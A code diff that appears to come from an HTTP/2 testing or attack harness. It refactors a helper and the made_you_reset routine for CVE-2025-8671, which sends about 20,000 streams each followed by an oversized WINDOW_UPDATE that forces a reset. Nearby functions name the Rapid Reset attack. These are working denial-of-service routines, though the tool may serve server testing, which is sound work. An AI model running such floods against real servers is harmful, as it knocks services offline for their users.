@@ -236,7 +236,8 @@ def probe_closed(connection):
 
 def http2(target, pieces, opening=settings(), **options):
     connection = target.connect(options.pop("receive_buffer", None))
-    return play(connection, prefixed(PREFACE + opening, pieces), True, options.pop("patience", target.patience), **options)
+    patience = options.pop("patience", target.patience)
+    return play(connection, prefixed(PREFACE + opening, pieces), True, patience, **options)
 
 
 def prefixed(first, pieces):
@@ -268,8 +269,9 @@ def rapid_reset(target, count=20_000):
 def made_you_reset(target, count=20_000):
     """CVE-2025-8671: each request is followed by a WINDOW_UPDATE beyond 2^31 - 1, for which it has to be reset."""
     head = request_head(target.host, method=b"POST")
+    most = b"\x7f\xff\xff\xff"
     return http2(target, batches(
-        lambda n: head_frame(2 * n + 1, head, end=False) + frame(WINDOW_UPDATE, 0, 2 * n + 1, b"\x7f\xff\xff\xff"), count))
+        lambda n: head_frame(2 * n + 1, head, end=False) + frame(WINDOW_UPDATE, 0, 2 * n + 1, most), count))
 
 
 def made_you_reset_by_length(target, count=20_000):
